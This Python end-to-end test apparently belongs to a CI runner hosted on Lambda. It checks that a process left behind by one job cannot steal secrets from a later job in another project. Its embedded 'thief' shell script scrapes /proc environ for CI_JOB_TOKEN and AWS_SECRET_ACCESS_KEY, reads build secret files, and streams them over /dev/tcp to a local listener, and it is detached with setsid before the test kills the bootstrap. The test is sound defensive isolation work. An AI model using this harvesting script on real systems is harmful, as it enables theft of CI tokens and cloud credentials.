# SPDX-License-Identifier: Apache-2.0
"""A job leaves a process behind and the bootstrap dies: Lambda may start it again beside that."""

from __future__ import annotations

import contextlib
import re
import signal
import socket
import threading
from collections.abc import Iterator

import pytest

from e2e.stage import Stage, StageMaker, commands_of, output_of, signal_bootstrap
from localcloud.waiting import wait_until

ROUNDS = 3
# Tells what it finds, as fast as it can, to somebody outside.
THIEF = r"""
exec 9<>/dev/tcp/127.0.0.1/$PORT </dev/null >/dev/null 2>&1
echo "HELLO-$ROUND" >&9
while :; do
    for one in /proc/[0-9]*; do tr '\0' '\n' <$one/environ; done |
        grep -E '^(CI_JOB_TOKEN|AWS_SECRET_ACCESS_KEY)=' >&9
    cat /tmp/runlet/*/builds/*/*/*/secret* >&9
done
"""
LEAVE = [
    "(setsid bash thief.sh &)",
    # Where a job may do that; else the test does it.
    "kill -KILL $(pidof bootstrap) || true",
    "sleep 300",
]
LOOK = [
    "echo my-secret > $CI_PROJECT_DIR/secret-$ROUND",
    "sleep 1",
    "for one in /proc/[0-9]*/cmdline; do echo \"RUNS $(tr '\\0' ' ' <$one)\"; done",
]


class Fence:
    """Takes what thieves bring."""

    def __init__(self) -> None:
        self.loot = b""
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._server.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._server.accept()
                threading.Thread(target=self._take, args=(connection,), daemon=True).start()

    def _take(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            while content := connection.recv(1 << 16):
                self.loot += content

    def close(self) -> None:
        self._server.close()


@pytest.fixture
def fence() -> Iterator[Fence]:
    fence = Fence()
    yield fence
    fence.close()


@pytest.fixture
def kept(make_stage: StageMaker) -> Iterator[Stage]:
    """A stage whose sandboxes outlive their bootstrap."""
    stage = make_stage()
    stage.cloud.functions.keep_sandbox_after_crash = True
    yield stage
    stage.cloud.functions.keep_sandbox_after_crash = False


def test_nothing_of_a_job_meets_the_next_projects_job(kept: Stage, fence: Fence) -> None:
    other = kept.cloud.gitlab.create_project(f"{kept.tag}/other")
    for i in range(ROUNDS):
        variables = {"PORT": str(fence.port), "ROUND": str(i)}
        pipeline = kept.commit(
            {"leave": {"script": LEAVE, "variables": variables}}, {"thief.sh": THIEF}
        )
        thief = pipeline.job("leave")
        stealing = kept.start()
        wait_until(lambda i=i: f"HELLO-{i}".encode() in fence.loot, "the thief's start")
        # It can do its work.
        wait_until(lambda one=thief: one.token.encode() in fence.loot, "the job's own token")
        with contextlib.suppress(ValueError):  # it has ended already
            signal_bootstrap(kept.environment, signal.SIGKILL)
        assert stealing.result().response["errorType"] == "Runtime.ExitError"

        pipeline = kept.commit({"look": {"script": LOOK, "variables": {"ROUND": str(i)}}},
                               project=other)  # fmt: skip
        invocation = kept.invoke()

        job = pipeline.job("look")
        text = output_of(job)
        assert invocation.cold_start
        assert invocation.answer["status"] == "job_succeeded", text
        runs = re.findall(r"^RUNS (.+)$", text, re.M)
        assert any("bootstrap" in one for one in runs), runs
        assert [one for one in runs if "thief.sh" in one] == []
        assert job.token.encode() not in fence.loot
    assert "earlier life" in kept.logs
    assert [one for one in commands_of(kept.environment) if "bootstrap" not in one] == []
    assert b"my-secret" not in fence.loot
    assert b"AWS_SECRET_ACCESS_KEY" not in fence.loot
